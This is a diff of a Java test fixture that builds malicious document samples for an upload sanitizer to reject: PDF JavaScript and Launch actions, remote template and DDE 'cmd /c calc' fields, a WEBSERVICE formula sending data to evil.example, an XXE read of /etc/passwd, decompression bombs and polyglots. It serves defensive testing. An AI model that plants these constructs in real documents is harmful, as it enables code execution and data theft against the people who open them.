@@ -18,7 +18,7 @@ final class MaliciousFiles {
 
     private MaliciousFiles() {}
 
-    record Sample(String name, FileType kind, byte[] content, Refusal reason) {
+    record Sample(String name, FileType kind, byte[] content, RejectionReason reason) {
         @Override
         public String toString() {
             return kind + ": " + name;
@@ -37,90 +37,114 @@ final class MaliciousFiles {
     }
 
     private static void pdfs(List<Sample> all) {
-        pdf(all, "JavaScript on opening", Refusal.SCRIPT, "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>");
-        pdf(all, "JavaScript, escaped", Refusal.SCRIPT, "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>");
-        pdf(all, "JavaScript behind comments", Refusal.SCRIPT, "/OpenAction%x\n<</S%y\r/JavaScript/JS(1)>>");
-        pdf(all, "JavaScript by name", Refusal.SCRIPT, "/Names << /JavaScript << /Names [(a) 9 0 R] >> >>");
-        pdf(all, "launch", Refusal.SCRIPT, "/OpenAction << /S /Launch /F (cmd.exe) >>");
-        pdf(all, "launch, by a click", Refusal.SCRIPT, "/Outlines << /First << /A << /S /Launch /Win << >> >> >> >>");
-        pdf(all, "address on opening", Refusal.OUTSIDE, "/OpenAction << /S /URI /URI (http://evil.example) >>");
+        pdf(
+                all,
+                "JavaScript on opening",
+                RejectionReason.SCRIPT,
+                "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>");
+        pdf(
+                all,
+                "JavaScript, escaped",
+                RejectionReason.SCRIPT,
+                "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>");
+        pdf(all, "JavaScript behind comments", RejectionReason.SCRIPT, "/OpenAction%x\n<</S%y\r/JavaScript/JS(1)>>");
+        pdf(all, "JavaScript by name", RejectionReason.SCRIPT, "/Names << /JavaScript << /Names [(a) 9 0 R] >> >>");
+        pdf(all, "launch", RejectionReason.SCRIPT, "/OpenAction << /S /Launch /F (cmd.exe) >>");
+        pdf(
+                all,
+                "launch, by a click",
+                RejectionReason.SCRIPT,
+                "/Outlines << /First << /A << /S /Launch /Win << >> >> >> >>");
+        pdf(all, "address on opening", RejectionReason.OUTSIDE, "/OpenAction << /S /URI /URI (http://evil.example) >>");
         pdf(
                 all,
                 "other file on opening",
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\x) /D [0 /Fit] >>");
         pdf(
                 all,
                 "address after going to a page",
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (x) >>] >>");
-        pdf(all, "address on closing", Refusal.OUTSIDE, "/AA << /WC << /S /URI /URI (http://evil.example) >> >>");
-        pdf(all, "embedded target", Refusal.EMBEDDED, "/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>");
+        pdf(
+                all,
+                "address on closing",
+                RejectionReason.OUTSIDE,
+                "/AA << /WC << /S /URI /URI (http://evil.example) >> >>");
+        pdf(all, "embedded target", RejectionReason.EMBEDDED, "/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>");
         pdf(
                 all,
                 "form that submits",
-                Refusal.FORM,
+                RejectionReason.FORM,
                 "/AcroForm << /Fields [<< /FT /Btn /A << /S /SubmitForm /F (http://evil.example) >> >>] >>");
         pdf(
                 all,
                 "form that imports",
-                Refusal.FORM,
+                RejectionReason.FORM,
                 "/AcroForm << /Fields [<< /FT /Btn /A << /S /ImportData /F (c:/x) >> >>] >>");
-        pdf(all, "XFA", Refusal.FORM, "/AcroForm << /XFA [(template) 9 0 R] >>");
-        pdf(all, "attachment", Refusal.EMBEDDED, "/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>");
+        pdf(all, "XFA", RejectionReason.FORM, "/AcroForm << /XFA [(template) 9 0 R] >>");
+        pdf(all, "attachment", RejectionReason.EMBEDDED, "/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>");
         pdf(
                 all,
                 "associated file, as e-invoices have",
-                Refusal.EMBEDDED,
+                RejectionReason.EMBEDDED,
                 "/AF [<< /Type /Filespec /F (factur-x.xml) /AFRelationship /Alternative /EF << /F 9 0 R >> >>]");
-        pdf(all, "rendition", Refusal.SCRIPT, "/OpenAction << /S /Rendition /OP 0 /R 9 0 R >>");
-        pdf(all, "rich media", Refusal.SCRIPT, "/X [<< /Subtype /RichMedia /RichMediaContent 9 0 R >>]");
-        pdf(all, "3D with a script", Refusal.SCRIPT, "/X << /Type /3D /OnInstantiate 9 0 R >>");
-        pdf(all, "page of another file", Refusal.OUTSIDE, "/X << /Subtype /Form /Ref << /F (x.pdf) /Page 0 >> >>");
+        pdf(all, "rendition", RejectionReason.SCRIPT, "/OpenAction << /S /Rendition /OP 0 /R 9 0 R >>");
+        pdf(all, "rich media", RejectionReason.SCRIPT, "/X [<< /Subtype /RichMedia /RichMediaContent 9 0 R >>]");
+        pdf(all, "3D with a script", RejectionReason.SCRIPT, "/X << /Type /3D /OnInstantiate 9 0 R >>");
+        pdf(
+                all,
+                "page of another file",
+                RejectionReason.OUTSIDE,
+                "/X << /Subtype /Form /Ref << /F (x.pdf) /Page 0 >> >>");
 
         String action = "<< /S /JavaScript /JS (app.alert(1)) >>";
-        add(all, "action of its own", Refusal.SCRIPT, pdf("/OpenAction 9 0 R", "9 0 obj " + action + " endobj\n"));
+        add(
+                all,
+                "action of its own",
+                RejectionReason.SCRIPT,
+                pdf("/OpenAction 9 0 R", "9 0 obj " + action + " endobj\n"));
         add(
                 all,
                 "address in an action of its own",
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 pdf("/OpenAction 9 0 R", "9 0 obj << /S /URI /URI (x) >> endobj\n"));
         add(
                 all,
                 "address two actions on",
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 pdf(
                         "/OpenAction 9 0 R",
                         "8 0 obj << /S /URI /URI (x) >> endobj\n9 0 obj << /S /GoTo /D [3 0 R /Fit] /Next 8 0 R >> endobj\n"));
         add(
                 all,
                 "address in additional actions of their own",
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 pdf("/AA 9 0 R", "8 0 obj << /S /URI /URI (x) >> endobj\n9 0 obj << /WC 8 0 R >> endobj\n"));
         add(
                 all,
                 "action in an object stream",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf("/OpenAction 9 0 R", objectStream("/Filter /FlateDecode", flate(inStream(9, action)))));
         add(
                 all,
                 "action in an object stream, packed twice",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf("/OpenAction 9 0 R", objectStream("/Filter [/AHx /Fl]", hexadecimal(flate(inStream(9, action))))));
         add(
                 all,
                 "action in an object stream, by runs",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf("/OpenAction 9 0 R", objectStream("/Filter /RunLengthDecode", runs(inStream(9, action)))));
         add(
                 all,
                 "action in an object stream, as numbers of 85",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf("/OpenAction 9 0 R", objectStream("/Filter /ASCII85Decode", ascii85(inStream(9, action)))));
         add(
                 all,
                 "action in an object stream, by differences",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf(
                         "/OpenAction 9 0 R",
                         objectStream(
@@ -129,7 +153,7 @@ final class MaliciousFiles {
         add(
                 all,
                 "action in an object stream without its type",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf(
                         "/OpenAction 9 0 R",
                         new String(
@@ -140,103 +164,103 @@ final class MaliciousFiles {
         add(
                 all,
                 "action inside a stream that claims to be long",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf(
                         "/OpenAction 9 0 R",
                         "7 0 obj << /Length 9999 >> stream\n9 0 obj " + action + " endobj\nendstream endobj\n"));
         add(
                 all,
                 "action inside a text",
-                Refusal.SCRIPT,
+                RejectionReason.SCRIPT,
                 pdf(
                         "/OpenAction 9 0 R",
                         "7 0 obj (9 0 obj " + action.replace("(app.alert(1))", "9 0 R") + " endobj) endobj\n"));
         add(
                 all,
                 "content in another file",
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 pdf("", "9 0 obj << /Length 0 /F (http://evil.example) >> stream\n\nendstream endobj\n"));
         add(
                 all,
                 "attachment that one sees",
-                Refusal.EMBEDDED,
+                RejectionReason.EMBEDDED,
                 pdf("", "9 0 obj << /Type /Annot /Subtype /FileAttachment >> endobj\n"));
         add(
                 all,
                 "picture of impossible size",
-                Refusal.PIXELS,
+                RejectionReason.PIXELS,
                 pdf(
                         "",
                         "9 0 obj << /Subtype /Image /Width 2000000000 /Height 2000000000 /Filter /JPXDecode /Length 1 >> stream\nx\nendstream endobj\n"));
-        add(all, "two hundred thousand brackets", Refusal.BOMB, pdf("/X " + "[".repeat(200_000), ""));
+        add(all, "two hundred thousand brackets", RejectionReason.BOMB, pdf("/X " + "[".repeat(200_000), ""));
         add(
                 all,
                 "content that is a bomb",
-                Refusal.BOMB,
+                RejectionReason.BOMB,
                 pdf("", stream("9 0 obj << /Filter /FlateDecode", flate(new byte[8_000_000]))));
         add(
                 all,
                 "bomb in a bomb",
-                Refusal.BOMB,
+                RejectionReason.BOMB,
                 pdf("", stream("9 0 obj << /Filter [/FlateDecode /FlateDecode]", flate(flate(new byte[100_000_000])))));
         add(
                 all,
                 "table of contents that is a bomb",
-                Refusal.BOMB,
+                RejectionReason.BOMB,
                 pdf("", stream("9 0 obj << /Type /XRef /W [1 2 1] /Filter /FlateDecode", flate(new byte[8_000_000]))));
         add(
                 all,
                 "objects that are a bomb",
-                Refusal.BOMB,
+                RejectionReason.BOMB,
                 pdf("", objectStream("/Filter /FlateDecode", flate(new byte[40_000_000]))));
         add(
                 all,
                 "objects in front of their stream",
-                Refusal.BROKEN,
+                RejectionReason.BROKEN,
                 pdf(
                         "",
                         stream(
                                 "7 0 obj << /Type /ObjStm /N 1 /First -99 /Filter /FlateDecode",
                                 flate(inStream(9, action)))));
-        add(all, "a password", Refusal.ENCRYPTED, SampleFiles.pdf("", "b"));
+        add(all, "a password", RejectionReason.ENCRYPTED, SampleFiles.pdf("", "b"));
         add(
                 all,
                 "no page",
-                Refusal.BROKEN,
+                RejectionReason.BROKEN,
                 new String(pdf("", ""), ISO_8859_1).replace("/Type /Page ", "").getBytes(ISO_8859_1));
     }
 
     private static void polyglots(List<Sample> all) {
         byte[] pdf = pdf("", "");
-        add(all, "HTML in front", Refusal.TYPE, join("<script>1</script>".getBytes(UTF_8), pdf));
-        add(all, "HTML behind", Refusal.FOREIGN, join(pdf, "<script>1</script>".getBytes(UTF_8)));
-        add(all, "program behind", Refusal.FOREIGN, join(pdf, SampleFiles.exe()));
-        add(all, "ZIP behind", Refusal.FOREIGN, join(pdf, SampleFiles.zip("a.js", "1")));
+        add(all, "HTML in front", RejectionReason.TYPE, join("<script>1</script>".getBytes(UTF_8), pdf));
+        add(all, "HTML behind", RejectionReason.FOREIGN, join(pdf, "<script>1</script>".getBytes(UTF_8)));
+        add(all, "program behind", RejectionReason.FOREIGN, join(pdf, SampleFiles.exe()));
+        add(all, "ZIP behind", RejectionReason.FOREIGN, join(pdf, SampleFiles.zip("a.js", "1")));
         add(
                 all,
                 "ZIP behind, and an end behind that",
-                Refusal.FOREIGN,
+                RejectionReason.FOREIGN,
                 join(pdf, SampleFiles.zip("a.js", "1"), "\n%%EOF\n".getBytes(UTF_8)));
         all.add(new Sample(
                 "a JPEG that is also a ZIP",
                 FileType.JPEG,
                 join(SampleFiles.jpeg(), SampleFiles.zip("a.js", "1")),
-                Refusal.FOREIGN));
+                RejectionReason.FOREIGN));
         all.add(new Sample(
                 "a PNG that is also a ZIP",
                 FileType.PNG,
                 join(SampleFiles.png(), SampleFiles.zip("a.js", "1")),
-                Refusal.FOREIGN));
+                RejectionReason.FOREIGN));
         all.add(new Sample(
                 "a DOCX with a program behind",
                 FileType.DOCX,
                 join(SampleFiles.ooxml(FileType.DOCX), SampleFiles.exe()),
-                Refusal.FOREIGN));
+                RejectionReason.FOREIGN));
         all.add(new Sample(
                 "a DOCX behind a program",
                 FileType.DOCX,
                 join(SampleFiles.exe(), SampleFiles.ooxml(FileType.DOCX)),
-                Refusal.TYPE));
+                RejectionReason.TYPE));
     }
 
     private static void word(List<Sample> all) {
@@ -247,7 +271,7 @@ final class MaliciousFiles {
                 "word/_rels/settings.xml.rels",
                 "attachedTemplate",
                 "http://evil.example/t.dotm",
-                Refusal.OUTSIDE);
+                RejectionReason.OUTSIDE);
         relation(
                 all,
                 "template from a server",
@@ -255,7 +279,7 @@ final class MaliciousFiles {
                 "word/_rels/settings.xml.rels",
                 "attachedTemplate",
                 "file:///\\\\evil.example\\t.dotm",
-                Refusal.OUTSIDE);
+                RejectionReason.OUTSIDE);
         relation(
                 all,
                 "object from elsewhere",
@@ -263,7 +287,7 @@ final class MaliciousFiles {
                 "word/_rels/document.xml.rels",
                 "oleObject",
                 "http://evil.example/x",
-                Refusal.OUTSIDE);
+                RejectionReason.OUTSIDE);
         relation(
                 all,
                 "picture from elsewhere",
@@ -271,7 +295,7 @@ final class MaliciousFiles {
                 "word/_rels/document.xml.rels",
                 "image",
                 "http://evil.example/x.png",
-                Refusal.OUTSIDE);
+                RejectionReason.OUTSIDE);
         relation(
                 all,
                 "frame from elsewhere",
@@ -279,12 +303,12 @@ final class MaliciousFiles {
                 "word/_rels/webSettings.xml.rels",
                 "frame",
                 "http://evil.example/",
-                Refusal.OUTSIDE);
+                RejectionReason.OUTSIDE);
         office(
                 all,
                 "macro under another name",
                 FileType.DOCX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "word/_rels/document.xml.rels",
                 "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"x.bin\"/></Relationships>",
                 "word/x.bin",
@@ -293,79 +317,85 @@ final class MaliciousFiles {
                 all,
                 "macro with its name in capitals",
                 FileType.DOCX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "word/VBAPROJECT.BIN",
                 SampleFiles.ole());
         office(
                 all,
                 "buttons that start something",
                 FileType.DOCX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "_rels/.rels",
                 "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2007/relationships/ui/extensibility\" Target=\"ui.xml\"/></Relationships>");
         office(
                 all,
                 "ActiveX",
                 FileType.DOCX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "word/_rels/document.xml.rels",
                 "<Relationships><Relationship Type=\"" + RELATION + "control\" Target=\"c.xml\"/></Relationships>");
         office(
                 all,
                 "object under a harmless name",
                 FileType.DOCX,
-                Refusal.EMBEDDED,
+                RejectionReason.EMBEDDED,
                 "word/media/image1.png",
                 SampleFiles.ole());
-        office(all, "program inside", FileType.DOCX, Refusal.EMBEDDED, "word/embeddings/evil.exe", SampleFiles.exe());
+        office(
+                all,
+                "program inside",
+                FileType.DOCX,
+                RejectionReason.EMBEDDED,
+                "word/embeddings/evil.exe",
+                SampleFiles.exe());
         office(
                 all,
                 "archive inside",
                 FileType.DOCX,
-                Refusal.EMBEDDED,
+                RejectionReason.EMBEDDED,
                 "word/embeddings/a.zip",
                 SampleFiles.zip("a", "a"));
         office(
                 all,
                 "macro in a table inside",
                 FileType.DOCX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "word/embeddings/a.xlsx",
                 SampleFiles.ooxml(FileType.XLSX, "xl/vbaProject.bin", SampleFiles.ole()));
-        office(all, "PDF inside", FileType.DOCX, Refusal.EMBEDDED, "word/embeddings/a.bin", pdf("", ""));
+        office(all, "PDF inside", FileType.DOCX, RejectionReason.EMBEDDED, "word/embeddings/a.bin", pdf("", ""));
         office(
                 all,
                 "web page inside",
                 FileType.DOCX,
-                Refusal.EMBEDDED,
+                RejectionReason.EMBEDDED,
                 "word/_rels/document.xml.rels",
                 "<Relationships><Relationship Type=\"" + RELATION + "aFChunk\" Target=\"a.html\"/></Relationships>");
         office(
                 all,
                 "DDE in a simple field",
                 FileType.DOCX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "word/document.xml",
                 "<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\" ddeauto c:\\\\x\\\\cmd.exe\"/></w:p>");
         office(
                 all,
                 "DDE over three runs",
                 FileType.DOCX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "word/document.xml",
                 "<w:p xmlns:w=\"w\"><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAU</w:instrText></w:r><w:r><w:instrText>TO c:\\\\cmd</w:instrText></w:r></w:p>");
         office(
                 all,
                 "DDE behind a field inside a field",
                 FileType.DOCX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "word/footnotes.xml",
                 "<w:p xmlns:w=\"w\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText>D</w:instrText><w:fldChar w:fldCharType=\"begin\"/><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType=\"end\"/><w:instrText>DE x y</w:instrText></w:p>");
         office(
                 all,
                 "DDE in UTF-16",
                 FileType.DOCX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "word/document.xml",
                 "\ufeff<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\"DDE x y\"/></w:p>"
                         .getBytes(java.nio.charset.StandardCharsets.UTF_16BE));
@@ -373,28 +403,28 @@ final class MaliciousFiles {
                 all,
                 "text from elsewhere",
                 FileType.DOCX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "word/document.xml",
                 "<w:p xmlns:w=\"w\"><w:fldSimple w:instr=\"INCLUDETEXT http://evil.example\"/></w:p>");
         office(
                 all,
                 "entities",
                 FileType.DOCX,
-                Refusal.FOREIGN,
+                RejectionReason.FOREIGN,
                 "word/document.xml",
                 "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");
         office(
                 all,
                 "picture of impossible size",
                 FileType.DOCX,
-                Refusal.PIXELS,
+                RejectionReason.PIXELS,
                 "word/media/image1.png",
                 png(50_000, 50_000));
         office(
                 all,
                 "list that names macros",
                 FileType.DOCX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "a.xml",
                 "<Types><Override ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
     }
@@ -407,7 +437,7 @@ final class MaliciousFiles {
                 "xl/externalLinks/_rels/externalLink1.xml.rels",
                 "externalLinkPath",
                 "file:///\\\\evil.example\\a.xlsx",
-                Refusal.OUTSIDE);
+                RejectionReason.OUTSIDE);
         relation(
                 all,
                 "connections",
@@ -415,54 +445,54 @@ final class MaliciousFiles {
                 "xl/_rels/workbook.xml.rels",
                 "connections",
                 "connections.xml",
-                Refusal.OUTSIDE);
+                RejectionReason.OUTSIDE);
         office(
                 all,
                 "DDE link",
                 FileType.XLSX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "xl/externalLinks/externalLink1.xml",
                 "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>");
         office(
                 all,
                 "DDE in a formula",
                 FileType.XLSX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "xl/worksheets/sheet1.xml",
                 "<c><f>cmd|'/c calc'!A1</f></c>");
         office(
                 all,
                 "DDE with quotes",
                 FileType.XLSX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "xl/worksheets/sheet1.xml",
                 "<c><f>\"a\"&amp;'cmd'|'/c calc'!A1</f></c>");
         office(
                 all,
                 "DDE in a name",
                 FileType.XLSX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "xl/workbook.xml",
                 "<definedName name=\"a\">MSEXCEL|'\\..\\cmd'!x</definedName>");
         office(
                 all,
                 "fetching formula",
                 FileType.XLSX,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "xl/worksheets/sheet1.xml",
                 "<c><f>_xlfn.WEBSERVICE(\"http://evil.example/\"&amp;A1)</f></c>");
         office(
                 all,
                 "macro sheet",
                 FileType.XLSX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "a.xml",
                 "<Types><Override ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>");
         office(
                 all,
                 "macro sheet by its relation",
                 FileType.XLSX,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "xl/_rels/workbook.xml.rels",
                 "<Relationships><Relationship Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"a.xml\"/></Relationships>");
     }
@@ -473,66 +503,67 @@ final class MaliciousFiles {
                 all,
                 "macro on opening",
                 FileType.ODT,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "<a xmlns:script=\"s\"><script:event-listener script:event-name=\"dom:load\"/></a>");
         odf(
                 all,
                 "macro behind a link",
                 FileType.ODT,
-                Refusal.MACROS,
+                RejectionReason.MACROS,
                 "<a><a " + link + " x:href=\"vnd.sun.star.script:x.py$f?language=Python\"/></a>");
         odf(
                 all,
                 "picture from elsewhere",
                 FileType.ODT,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "<d xmlns:draw=\"d\"><draw:image " + link + " x:href=\"http://evil.example/x.png\"/></d>");
         odf(
                 all,
                 "part of another file",
                 FileType.ODT,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "<t xmlns:text=\"t\"><text:section-source " + link + " x:href=\"../geheim.odt\"/></t>");
-        odf(all, "frame", FileType.ODT, Refusal.OUTSIDE, "<d xmlns:draw=\"d\"><draw:floating-frame/></d>");
+        odf(all, "frame", FileType.ODT, RejectionReason.OUTSIDE, "<d xmlns:draw=\"d\"><draw:floating-frame/></d>");
         odf(
                 all,
                 "form that submits",
                 FileType.ODT,
-                Refusal.FORM,
+                RejectionReason.FORM,
                 "<f xmlns:form=\"f\"><form:form " + link + " x:href=\"http://evil.example\"/></f>");
         odf(
                 all,
                 "DDE",
                 FileType.ODS,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "<t xmlns:table=\"t\"><table:table-cell table:formula=\"of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)\"/></t>");
         odf(
                 all,
                 "fetching formula",
                 FileType.ODS,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "<t xmlns:table=\"t\"><table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example&quot;)\"/></t>");
         odf(
                 all,
                 "table from elsewhere",
                 FileType.ODS,
-                Refusal.OUTSIDE,
+                RejectionReason.OUTSIDE,
                 "<t xmlns:table=\"t\"><table:table-source " + link + " x:href=\"file://evil.example/a.ods\"/></t>");
         all.add(new Sample(
                 "Basic",
                 FileType.ODS,
                 SampleFiles.odf(FileType.ODS, "Basic/Standard/Module1.xml", "<x/>"),
-                Refusal.MACROS));
+                RejectionReason.MACROS));
         all.add(new Sample(
                 "object of Windows",
                 FileType.ODT,
                 SampleFiles.odf(FileType.ODT, "Object 1", SampleFiles.ole()),
-                Refusal.EMBEDDED));
+                RejectionReason.EMBEDDED));
     }
 
     private static void pictures(List<Sample> all) {
-        all.add(new Sample("fifty thousand square", FileType.PNG, png(50_000, 50_000), Refusal.PIXELS));
-        all.add(new Sample("one row of two thousand millions", FileType.PNG, png(2_000_000_000, 1), Refusal.PIXELS));
+        all.add(new Sample("fifty thousand square", FileType.PNG, png(50_000, 50_000), RejectionReason.PIXELS));
+        all.add(new Sample(
+                "one row of two thousand millions", FileType.PNG, png(2_000_000_000, 1), RejectionReason.PIXELS));
         byte[] jpeg = SampleFiles.jpeg();
         for (int i = 0; i < jpeg.length - 8; i++) {
             if ((jpeg[i] & 0xff) == 0xff && (jpeg[i + 1] & 0xff) == 0xc0) {
@@ -540,8 +571,8 @@ final class MaliciousFiles {
                 jpeg[i + 7] = (byte) 0xea;
             }
         }
-        all.add(new Sample("sixty thousand square", FileType.JPEG, jpeg, Refusal.PIXELS));
-        all.add(new Sample("a head without a picture", FileType.PNG, png(10, 10), Refusal.BROKEN));
+        all.add(new Sample("sixty thousand square", FileType.JPEG, jpeg, RejectionReason.PIXELS));
+        all.add(new Sample("a head without a picture", FileType.PNG, png(10, 10), RejectionReason.BROKEN));
     }
 
     /** Made by hand, so that nothing stands in it but what the test wants. */
@@ -553,16 +584,22 @@ final class MaliciousFiles {
                 .getBytes(ISO_8859_1);
     }
 
-    private static void pdf(List<Sample> all, String name, Refusal reason, String catalog) {
+    private static void pdf(List<Sample> all, String name, RejectionReason reason, String catalog) {
         add(all, name, reason, pdf(catalog, ""));
     }
 
-    private static void add(List<Sample> all, String name, Refusal reason, byte[] content) {
+    private static void add(List<Sample> all, String name, RejectionReason reason, byte[] content) {
         all.add(new Sample(name, FileType.PDF, content, reason));
     }
 
     private static void relation(
-            List<Sample> all, String name, FileType kind, String part, String type, String target, Refusal reason) {
+            List<Sample> all,
+            String name,
+            FileType kind,
+            String part,
+            String type,
+            String target,
+            RejectionReason reason) {
         office(
                 all,
                 name,
@@ -573,11 +610,11 @@ final class MaliciousFiles {
                         + "\" TargetMode=\"External\"/></Relationships>");
     }
 
-    private static void office(List<Sample> all, String name, FileType kind, Refusal reason, Object... parts) {
+    private static void office(List<Sample> all, String name, FileType kind, RejectionReason reason, Object... parts) {
         all.add(new Sample(name, kind, SampleFiles.ooxml(kind, parts), reason));
     }
 
-    private static void odf(List<Sample> all, String name, FileType kind, Refusal reason, String part) {
+    private static void odf(List<Sample> all, String name, FileType kind, RejectionReason reason, String part) {
         all.add(new Sample(name, kind, SampleFiles.odf(kind, "styles.xml", part), reason));
     }
 
